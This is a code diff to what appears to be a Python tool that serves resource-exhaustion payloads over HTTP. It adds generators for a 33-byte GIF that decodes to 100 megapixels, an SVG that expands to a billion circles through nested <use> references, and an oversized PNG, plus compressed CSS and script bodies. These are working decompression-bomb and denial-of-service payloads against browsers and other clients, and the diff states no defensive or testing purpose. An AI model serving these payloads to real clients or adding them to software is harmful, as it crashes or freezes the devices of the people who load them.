@@ -52,7 +52,7 @@ def zstandarded() -> bytes:
 
 
 def flood_png(side: int = 40_000) -> bytes:
-    """A picture of 1,600 megapixels in a few hundred kilobytes."""
+    """A picture of 1,600 megapixels in a few hundred kilobytes; no browser even tries."""
 
     def chunk(kind: bytes, data: bytes) -> bytes:
         check = struct.pack(">I", zlib.crc32(kind + data))
@@ -74,6 +74,20 @@ def many_frames_gif(frames: int = 50_000) -> bytes:
     head = b"GIF89a" + struct.pack("<HHBBB", 2000, 2000, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
     frame = b"," + struct.pack("<HHHHB", 0, 0, 2000, 2000, 0) + b"\x02\x02\x4c\x01\x00"
     return head + frame * frames + b";"
+
+
+def large_gif() -> bytes:
+    """A picture of 100 megapixels in 33 bytes, which a browser decodes into 400 MB."""
+    head = b"GIF89a" + struct.pack("<HHBBB", 10_000, 10_000, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
+    return head + b"," + struct.pack("<HHHHB", 0, 0, 10_000, 10_000, 0) + b"\x02\x02\x4c\x01\x00;"
+
+
+def nested_svg(steps: int = 9) -> bytes:
+    """A drawing of one circle a thousand million times, without entities."""
+    tens = [f"<use href='#g{n}'/>" * 10 for n in range(steps)]
+    step = "".join(f"<g id='g{n}'>{ten}</g>" for n, ten in enumerate(tens, 1))
+    inside = f"<defs><g id='g0'><circle r='9'/></g>{step}</defs><use href='#g{steps}'/>"
+    return f"<svg xmlns='http://www.w3.org/2000/svg'>{inside}</svg>".encode()
 
 
 def flood_webp() -> bytes:
@@ -111,6 +125,11 @@ BODIES: Bodies = {
     "brotli": ("text/html", {"Content-Encoding": "br"}, brotlied),
     "zstd": ("text/html", {"Content-Encoding": "zstd"}, zstandarded),
     "flood.png": ("image/png", {}, flood_png),
+    "large.png": ("image/png", {}, lambda: flood_png(20_000)),
+    "large.gif": ("image/gif", {}, large_gif),
+    "nested.svg": ("image/svg+xml", {}, nested_svg),
+    "style": ("text/css", {"Content-Encoding": "gzip"}, gzipped),
+    "script": ("text/javascript", {"Content-Encoding": "br"}, brotlied),
     "frames.gif": ("image/gif", {}, many_frames_gif),
     "flood.webp": ("image/webp", {}, flood_webp),
     "entities.svg": ("image/svg+xml", {}, lambda: entities("svg")),
